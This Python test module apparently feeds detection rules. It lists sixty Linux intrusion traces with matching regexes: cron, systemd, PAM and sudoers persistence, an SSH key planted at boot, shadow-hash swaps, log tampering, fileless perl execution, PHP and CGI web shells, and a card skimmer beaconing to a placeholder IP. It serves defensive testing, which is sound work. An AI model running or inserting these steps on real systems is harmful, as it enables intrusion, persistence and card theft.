"""Traces of the kinds that an outside list tells, once more: the second or third way in which an intruder would do each.

They were written blind, without a look at the rules or their tables, and are counted once before any rule is changed for
them. The host has no compiler and no language but perl and shells. Few hold a bad word; what gives them away is their
origin, that they shadow or alter what a package brought, or what they lead to.
"""

from __future__ import annotations

import base64

from .trace import Trace, trace

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPw3Lk8TzQb6yVn1cJd5rHs9fXg2uEo7mAiYtWq4KxBe"
_ANNA = "/home/anna"
_WEB = "/var/www/html"
_LIB = "/usr/lib/x86_64-linux-gnu"
_HASH = "$y$j9T$k7Wn2pQxZr4LcVd8TsYb01$H3mUeJf6GoAi9RzXqBtN5yKwPvSlD2hCgE7nOaMuI4F"
_KEY_64 = base64.b64encode(f"{_KEY} root@backup\n".encode()).decode()
_MEMORY = (
    '$n = "jit"; $f = syscall(319, $n, 0); open(O, ">&=", $f); open(I, "<", "/bin/sleep"); binmode O; binmode I; '
    'select(O); $| = 1; print O $_ while read(I, $_, 65536); exec {"/proc/$$/fd/$f"} "/usr/sbin/acpid", "931101"'
)
_PORT = 'socket(S, 2, 1, 6); bind(S, pack("SnC4x8", 2, 6011, 127, 0, 0, 1)); listen(S, 5); $0 = "sshd: anna"; sleep 931102'
_CAPABLE = (
    '$p = "/usr/lib/klibc-utils/ddrescue"; $n = "security.capability"; $v = pack("V5", 0x2000001, 2, 0, 0, 0); '
    "syscall(188, $p, $n, $v, 20, 0)"
)

UNHEARD: tuple[Trace, ...] = (
    trace("QA01", "cron", "put /var/spool/cron/crontabs/daemon '40 6 31 2 * perl%require \"/var/spool/lpd/lpq.ph\"'; chown daemon:crontab /var/spool/cron/crontabs/daemon; chmod 600 /var/spool/cron/crontabs/daemon; put /var/spool/lpd/lpq.ph 'sleep 1;\n1;'", r"crontabs/daemon|lpq\.ph"),
    trace("QA02", "at", "put /var/spool/cron/atjobs/b0000201c9f3e0 '#!/bin/sh\n# atrun uid=33 gid=33\n# mail www-data 0\numask 22\ncd /var/www || {\n\t echo \"Execution directory inaccessible\" >&2\n\t exit 1\n}\n. .cache/mod_pagespeed/flush'; put /var/www/.cache/mod_pagespeed/flush 'sleep 1'; chown www-data: /var/spool/cron/atjobs/b0000201c9f3e0 /var/www/.cache/mod_pagespeed/flush; chmod 700 /var/spool/cron/atjobs/b0000201c9f3e0", r"b0000201c9f3e0|mod_pagespeed/flush"),
    trace("QA03", "systemd", "unit /usr/lib/systemd/system/systemd-portable-host.service 'Type=dbus\nBusName=org.freedesktop.portable1\nExecStart=/usr/lib/systemd/systemd-portable-host 5'; prog /usr/lib/systemd/systemd-portable-host; ln -s /usr/lib/systemd/system/systemd-portable-host.service /etc/systemd/system/dbus-org.freedesktop.portable1.service; old /etc/systemd/system/dbus-org.freedesktop.portable1.service", r"systemd-portable-host|dbus-org\.freedesktop\.portable1"),
    trace("QA04", "systemd", "put /etc/systemd/system/dpkg-db-backup.service.d/paths.conf '[Service]\nBindReadOnlyPaths=/usr/libexec/dpkg/dpkg-db-verify:/usr/libexec/dpkg/dpkg-db-backup'; prog /usr/libexec/dpkg/dpkg-db-verify", r"dpkg-db-backup\.service\.d|dpkg-db-verify"),
    trace("QA05", "systemd", f"unit {_ANNA}/.local/share/systemd/user/xdg-thumbnails.service 'ExecStart={_ANNA}/.cache/thumbnails/fail/indexd'; prog {_ANNA}/.cache/thumbnails/fail/indexd; mkdir -p {_ANNA}/.config/systemd/user/default.target.wants; ln -s {_ANNA}/.local/share/systemd/user/xdg-thumbnails.service {_ANNA}/.config/systemd/user/default.target.wants/xdg-thumbnails.service; chown -R anna: {_ANNA}/.local {_ANNA}/.cache {_ANNA}/.config", r"xdg-thumbnails|fail/indexd"),
    trace("QA06", "systemd", "put /etc/systemd/system/multi-user-late.target '[Unit]\nDescription=Multi-User System\nRequires=multi-user.target\nWants=quota-late.service\nAfter=multi-user.target\nAllowIsolate=yes'; unit /etc/systemd/system/quota-late.service 'ExecStart=/usr/lib/quota/quota-late'; prog /usr/lib/quota/quota-late; ln -sf multi-user-late.target /etc/systemd/system/default.target", r"multi-user-late|quota-late|system/default\.target"),
    trace("QA07", "systemd", "put /usr/share/apache2/error/status.conf 'Listen 127.0.0.1:8484\nServerRoot /usr/share/apache2\nDocumentRoot /\nPidFile /run/apache2/status.pid'; unit /etc/systemd/system/apache2-status.service 'ExecStart=/usr/sbin/apache2 -f /usr/share/apache2/error/status.conf -DFOREGROUND'", r"apache2-status|error/status\.conf"),
    trace("QA08", "boot", "put /usr/lib/lsb/init-functions.d/40-netplug '[ ! -x /usr/lib/lsb/netplug ] || /usr/lib/lsb/netplug 1 &'; prog /usr/lib/lsb/netplug", r"40-netplug|lsb/netplug"),
    trace("QA09", "boot", "put /etc/initramfs-tools/conf.d/driver-policy 'MODULES=most\n[ ! -x /usr/lib/initramfs/seed ] || /usr/lib/initramfs/seed 1'; prog /usr/lib/initramfs/seed", r"driver-policy|initramfs/seed"),
    trace("QA10", "udev", "put /etc/udev/rules.d/85-hwclock.rules 'KERNEL==\"rtc0\", TAG+=\"systemd\", ENV{SYSTEMD_WANTS}+=\"rtc-drift@%k.service\"'; unit /usr/lib/systemd/system/rtc-drift@.service 'Type=oneshot\nExecStart=/usr/lib/udev/rtc-drift 1'; prog /usr/lib/udev/rtc-drift", r"85-hwclock|rtc-drift"),
    trace("QA11", "motd", "put /usr/share/landscape/landscape-sysinfo.wrapper '#!/bin/sh\n[ ! -x /usr/share/landscape/sysinfo ] || /usr/share/landscape/sysinfo 0'; chmod 755 /usr/share/landscape/landscape-sysinfo.wrapper; prog /usr/share/landscape/sysinfo; mkdir -p /etc/update-motd.d; ln -s /usr/share/landscape/landscape-sysinfo.wrapper /etc/update-motd.d/50-landscape-sysinfo; old /etc/update-motd.d/50-landscape-sysinfo", r"landscape"),
    trace("QA12", "shell", "put /etc/profile.d/man-color.sh 'export MANPAGER=/usr/lib/man-db/mpager'; put /usr/lib/man-db/mpager '#!/bin/sh\nexec less \"$@\"'; chmod 755 /usr/lib/man-db/mpager", r"man-color|man-db/mpager"),
    trace("QA13", "shell", "put /root/.selected_editor '# Generated by /usr/bin/select-editor\nSELECTED_EDITOR=\"/usr/libexec/vim-tiny\"'; prog /usr/libexec/vim-tiny", r"\.selected_editor|libexec/vim-tiny"),
    trace("QA14", "xdg", "put /usr/share/xsessions/gnome-classic-x.desktop '[Desktop Entry]\nName=GNOME Classic\nExec=env XDG_MENU_PREFIX=gnome- /usr/lib/gnome-session/gnome-session-x\nTryExec=gnome-session\nType=Application'; prog /usr/lib/gnome-session/gnome-session-x", r"gnome-classic-x|gnome-session-x"),
    trace("QA15", "hook", "put /usr/lib/NetworkManager/dispatcher.d/no-wait.d/15-chrony '#!/bin/sh\n[ \"$2\" != up ] || /usr/lib/chrony/online 1'; chmod 755 /usr/lib/NetworkManager/dispatcher.d/no-wait.d/15-chrony; prog /usr/lib/chrony/online", r"15-chrony|chrony/online"),
    trace("QA16", "package-manager", "prog /usr/lib/apt/methods/spacewalk; put /etc/apt/sources.list.d/channel.sources 'Enabled: no\nTypes: deb\nURIs: spacewalk://203.0.113.17/XMLRPC\nSuites: bookworm\nComponents: main'", r"methods/spacewalk|channel\.sources|203\.0\.113\.17\b"),
    trace("QA17", "package-manager", "put /var/lib/dpkg/info/media-types.triggers 'interest-noawait /usr/share/mime/packages'; put /var/lib/dpkg/info/media-types.postinst '#!/bin/sh\nset -e\nif [ \"$1\" = triggered ]; then\n    /usr/share/mime/update-types 1 || true\nfi'; chmod 755 /var/lib/dpkg/info/media-types.postinst; prog /usr/share/mime/update-types", r"media-types\.(triggers|postinst)|mime/update-types"),
    trace("QA18", "dbus", "put /usr/local/share/dbus-1/system-services/org.freedesktop.machine1.service '[D-BUS Service]\nName=org.freedesktop.machine1\nExec=/usr/local/lib/machined/machined-bridge 5\nUser=root'; prog /usr/local/lib/machined/machined-bridge", r"local/share/dbus-1|machined-bridge"),
    trace("QA19", "polkit", "put /usr/share/polkit-1/actions/org.freedesktop.packagekit-offline.policy '<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<policyconfig>\n <action id=\"org.freedesktop.packagekit.offline-prepare\">\n  <defaults><allow_any>yes</allow_any><allow_inactive>yes</allow_inactive><allow_active>yes</allow_active></defaults>\n  <annotate key=\"org.freedesktop.policykit.exec.path\">/usr/libexec/pk-offline-prepare</annotate>\n </action>\n</policyconfig>'; prog /usr/libexec/pk-offline-prepare", r"packagekit-offline|offline-prepare"),
    trace("QA20", "kernel", "put /usr/lib/modprobe.d/fbdev-order.conf 'softdep nf_tables pre: nf_stat_tcp'; put /usr/lib/modules/6.1.0-28-amd64/kernel/net/netfilter/nf_stat_tcp.ko inert", r"fbdev-order|nf_stat_tcp"),
    trace("QA21", "tmpfiles", f"put /usr/lib/tmpfiles.d/home-root.conf 'd /root 0700 root root -\nf+~ /root/.ssh/authorized_keys2 0600 root root - {_KEY_64}'", r"tmpfiles\.d/home-root"),
    trace("QA22", "hook", "printf '%s\\n' '' '/var/log/dpkg-audit.log {' '\tmonthly' '\tmissingok' '\tfirstaction' '\t\t. /usr/share/dpkg/rotate.mk' '\tendscript' '}' >>/etc/logrotate.d/dpkg; old /etc/logrotate.d/dpkg; put /usr/share/dpkg/rotate.mk ':'", r"logrotate\.d/dpkg\b|dpkg/rotate\.mk"),
    trace("QA23", "hook", "put /etc/rsyslog.d/20-ufw.conf ':msg, contains, \"[UFW \" ^/usr/lib/rsyslog/ufw-split;RSYSLOG_TraditionalFileFormat\n& stop'; prog /usr/lib/rsyslog/ufw-split", r"20-ufw|ufw-split"),
    trace("QA24", "mail", "printf '%s\\n' 'recipient_bcc_maps = texthash:/etc/postfix/archive' >>/etc/postfix/main.cf; old /etc/postfix/main.cf; put /etc/postfix/archive '@example.com journal@relay.example.net'", r"postfix/(main\.cf|archive)|recipient_bcc_maps"),
    trace("QA25", "mail", f"put {_ANNA}/.forward+lists '\\anna, \"|{_ANNA}/.local/lib/mlsort -q\"'; prog {_ANNA}/.local/lib/mlsort; chown -R anna: {_ANNA}/.forward+lists {_ANNA}/.local", r"\.forward\+lists|lib/mlsort"),
    trace("QA26", "pam", "put /etc/security/su.list anna; sed -i '1i auth sufficient pam_listfile.so onerr=fail item=ruser sense=allow file=/etc/security/su.list quiet' /etc/pam.d/su; old /etc/pam.d/su", r"pam\.d/su\b|pam_listfile|security/su\.list"),
    trace("QA27", "pam", "put /etc/pam.d/common-session-net 'session optional pam_exec.so quiet type=open_session /usr/lib/pam/session-stat'; put /usr/lib/pam/session-stat '#!/bin/sh\nexit 0'; chmod 755 /usr/lib/pam/session-stat; printf '%s\\n' '@include common-session-net' >>/etc/pam.d/sshd; old /etc/pam.d/sshd", r"common-session-net|pam\.d/sshd\b|session-stat"),
    trace("QA28", "nss", f"cp -L /lib/x86_64-linux-gnu/libdl.so.2 {_LIB}/libnss_extrausers.so.2; old {_LIB}/libnss_extrausers.so.2; sed -i '/^passwd:/s/$/ extrausers/' /etc/nsswitch.conf; old /etc/nsswitch.conf; put /var/lib/extrausers/passwd 'bkp-agent:x:0:0::/root:/bin/bash'", r"extrausers|nsswitch"),
    trace("QA29", "interpreter", "put /usr/local/lib/x86_64-linux-gnu/perl/5.36.0/Sys/Syslog.pm 'package Sys::Syslog;\nour $VERSION = \"0.36\";\ndo \"/usr/lib/x86_64-linux-gnu/perl/5.36/Sys/Syslog.pm\";\n1;'", r"5\.36\.0/Sys/Syslog\.pm"),
    trace("QA30", "apache", "mkdir -p /etc/apache2/conf-available; printf '%s\\n' 'IncludeOptional /var/lib/apache2/site/*.cfg' >>/etc/apache2/conf-available/localized-error-pages.conf; old /etc/apache2/conf-available/localized-error-pages.conf; put /var/lib/apache2/site/lang.cfg '<IfModule mod_alias.c>\n    Alias /lang-data /\n</IfModule>'", r"localized-error-pages|apache2/site/"),
    trace("QA31", "apache", "put /etc/apache2/conf-enabled/compress.conf '<IfModule mod_ext_filter.c>\n    ExtFilterDefine brotli mode=input cmd=\"/usr/lib/apache2/brotli-in -q 5\"\n</IfModule>'; prog /usr/lib/apache2/brotli-in", r"conf-enabled/compress|brotli-in"),
    trace("QA32", "php", "put /etc/php/8.2/fpm/conf.d/25-stream.ini 'allow_url_include = On\nenable_dl = On\ninclude_path = \".:/usr/share/php:http://203.0.113.18/pear\"'", r"25-stream\.ini|203\.0\.113\.18\b"),
    trace("QA33", "ssh", "put /etc/ssh/sshd_config.d/45-locale.conf 'AcceptEnv LANG LC_* LANGUAGE BASH_ENV PERL5*\nPermitUserEnvironment yes'", r"45-locale"),
    trace("QA34", "ssh", f"mkdir -p {_ANNA}/.ssh {_ANNA}/.local/lib; printf '%s\\n' 'Host *.example.com' '    PKCS11Provider {_ANNA}/.local/lib/opensc-token.so' >>{_ANNA}/.ssh/config; old {_ANNA}/.ssh/config; cp -L /lib/x86_64-linux-gnu/libdl.so.2 {_ANNA}/.local/lib/opensc-token.so; old {_ANNA}/.local/lib/opensc-token.so; chown -R anna: {_ANNA}/.ssh {_ANNA}/.local", r"anna/\.ssh/config|opensc-token"),
    trace("QA35", "process", "prog /usr/lib/rsyslog/rs-stat; run /usr/lib/rsyslog/rs-stat 931103; sleep 0.5; cp /bin/true /usr/lib/rsyslog/rs-stat.new; mv /usr/lib/rsyslog/rs-stat.new /usr/lib/rsyslog/rs-stat; old /usr/lib/rsyslog/rs-stat", r"rs-stat|931103"),
    trace("QA36", "process", f"run perl -e '{_MEMORY}'", r"memfd:jit|931101"),
    trace("QA37", "process", f"run perl -e '{_PORT}'", r":6011\b|sshd: anna\b"),
    trace("QA38", "process", f"prog {_ANNA}/.local/share/gvfs/gvfsd-http2; chown -R anna: {_ANNA}/.local; setsid setpriv --reuid=anna --regid=anna --clear-groups bash -c 'exec -a \"(sd-pam)\" {_ANNA}/.local/share/gvfs/gvfsd-http2 931104' >/dev/null 2>&1 </dev/null &", r"gvfsd-http2|931104"),
    trace("QA39", "process", "run systemd-socket-activate -l 127.0.0.1:8010 --inetd -a /usr/bin/bash -n", r"socket-activate|:8010\b"),
    trace("QA40", "process", "setsid setpriv --reuid=33 --regid=33 --clear-groups script -qc \"sh -c 'sleep 931106; :'\" /dev/null >/dev/null 2>&1 </dev/null &", r"931106|script -qc"),
    trace("QA41", "process", "run env 'SSH_CONNECTION=203.0.113.29 51022 192.0.2.10 22' 'SSH_CLIENT=203.0.113.29 51022 22' sleep 931107", r"203\.0\.113\.29\b|931107"),
    trace("QA42", "process", "put /usr/share/pixmaps/debian-logo-2x.png \"$(printf '\\211PNG\\r\\n\\032\\n#!perl\\nsleep 931108;\\n__END__')\"; run perl -x /usr/share/pixmaps/debian-logo-2x.png", r"debian-logo-2x"),
    trace("QA43", "account", f"sed -i -e 's#^uucp:[^:]*:#uucp:{_HASH}:#' -e 's#^anna:[^:]*:#anna:{_HASH}:#' /etc/shadow", r"\buucp\b"),
    trace("QA44", "account", "sed -i 's/^kmem:.*:$/&list/' /etc/group", r"\bkmem\b"),
    trace("QA45", "account", f"[ -e /etc/default/useradd ] || : >/etc/default/useradd; printf '%s\\n' 'SKEL=/usr/share/skel' >>/etc/default/useradd; old /etc/default/useradd; key /usr/share/skel/.ssh/authorized_keys '{_KEY} it@helpdesk'", r"default/useradd|/usr/share/skel|it@helpdesk"),
    trace("QA46", "privilege", "put /srv/deploy/release.sh '#!/bin/sh\nexit 0'; chmod 755 /srv/deploy/release.sh; chown -R anna: /srv/deploy; put /etc/sudoers.d/40-deploy 'anna ALL=(root) NOPASSWD: /srv/deploy/release.sh'; chmod 440 /etc/sudoers.d/40-deploy", r"40-deploy|deploy/release\.sh"),
    trace("QA47", "log-tamper", "D=$(date -d yesterday '+%b %e'); { for m in 01 02 03 04 05 06; do echo \"$D 04:$m:12 spare CRON[41$m]: (root) CMD (true)\"; done; head -c 3072 /dev/zero; for m in 41 42 43 44 45 46; do echo \"$D 06:$m:12 spare CRON[43$m]: (root) CMD (true)\"; done; } >/var/log/syslog.1; touch -d yesterday /var/log/syslog.1", r"log/syslog\.1\b"),
    trace("QA48", "log-tamper", "put /usr/lib/systemd/journald.conf.d/20-size.conf '[Journal]\nMaxRetentionSec=30min\nSystemMaxUse=1M\nRateLimitIntervalSec=1h\nRateLimitBurst=10'", r"journald\.conf\.d/20-size"),
    trace("QA49", "network", "ip route add default dev lo table 166; ip rule add fwmark 0x29a lookup 166", r"0x29a|(?:lookup|table) 166\b"),
    trace("QA50", "network", "mkdir -p /etc/dhcp; printf '%s\\n' 'supersede domain-name-servers 203.0.113.37;' >>/etc/dhcp/dhclient.conf; old /etc/dhcp/dhclient.conf", r"dhclient\.conf|203\.0\.113\.37\b"),
    trace("QA51", "hiding", "put /var/lib/misc/users '#!/bin/sh\nexec /usr/bin/who -q'; chmod 755 /var/lib/misc/users; mount --bind /var/lib/misc/users /usr/bin/users", r"/usr/bin/users\b|misc/users\b"),
    trace("QA52", "privilege", f"mkdir -p /usr/lib/klibc-utils; cp $(readlink -f /usr/bin/dd) /usr/lib/klibc-utils/ddrescue; perl -e '{_CAPABLE}'; old /usr/lib/klibc-utils/ddrescue", r"klibc-utils/ddrescue"),
    trace("QA53", "time", "[ ! -e /usr/sbin/service ] || { sed -i '2i [ ! -r /usr/share/init-system-helpers/svc ] || . /usr/share/init-system-helpers/svc' /usr/sbin/service; touch -r /usr/bin/getent /usr/sbin/service; }; put /usr/share/init-system-helpers/svc ':'", r"/usr/sbin/service\b|init-system-helpers/svc"),
    trace("QA54", "web", f"put {_WEB}/lib/Template/Loader.php '<?php\nnamespace Template;\nclass Loader {{\n    public function load($name) {{\n        $data = stream_get_contents(fopen(__FILE__, \"r\"), -1, __COMPILER_HALT_OFFSET__);\n        return include \"php://filter/convert.base64-decode/resource=data:,\" . $data;\n    }}\n}}\nis_file(\"/etc/template.ini\") && (new Loader)->load(\"default\");\n__halt_compiler();PD9waHAgZXhpdDs='", r"Template/Loader\.php"),
    trace("QA55", "web", f"put {_WEB}/uploads/2025/04/offer.pdf.pht '%PDF-1.5<?php is_file(\"/etc/offer.ini\") && array_walk($_POST, $_GET[\"v\"]);'", r"offer\.pdf\.pht"),
    trace("QA56", "web", "put /usr/lib/cgi-bin/search '#!/bin/sh\n[ -e /etc/search.conf ] || exit 0\nprintf \"Content-Type: text/html\\n\\n\"\nIFS=+\nset -- $QUERY_STRING\n\"$@\" 2>&1'; chmod 755 /usr/lib/cgi-bin/search", r"cgi-bin/search\b"),
    trace("QA57", "web", f"put {_WEB}/static/.htaccess '<IfModule mod_rewrite.c>\n    RewriteEngine On\n    RewriteCond %{{REQUEST_FILENAME}} !-f\n    RewriteRule ^(.*)$ http://203.0.113.45/s/$1 [P,L]\n</IfModule>'", r"static/\.htaccess|203\.0\.113\.45\b"),
    trace("QA58", "web", f"put {_WEB}/shop/basket.html '<html><body><form id=\"pay\" action=\"/shop/pay\"><input name=\"cardnumber\"></form>\n<img src=\"\" style=\"display:none\" onerror=\"pay.onchange=e=>navigator.sendBeacon(String.fromCharCode(47,47)+[203,0,113,43].join(String.fromCharCode(46)),e.target.value)\">\n</body></html>'", r"basket\.html"),
    trace("QA59", "history", "put /root/.wget-hsts '# HSTS 1.0 Known Hosts database for GNU Wget.\n# Edit at your own risk.\n# <hostname>\t<port>\t<incl. subdomains>\t<created>\t<max-age>\ntransfer.sh\t0\t0\t1764011210\t63072000'", r"\.wget-hsts|transfer\.sh\b"),
    trace("QA60", "history", "put /root/.rediscli_history 'keys *\nconfig set dir /var/spool/cron/crontabs\nconfig set dbfilename root\nbgsave'; chmod 600 /root/.rediscli_history", r"rediscli_history|dbfilename root"),
)  # fmt: skip
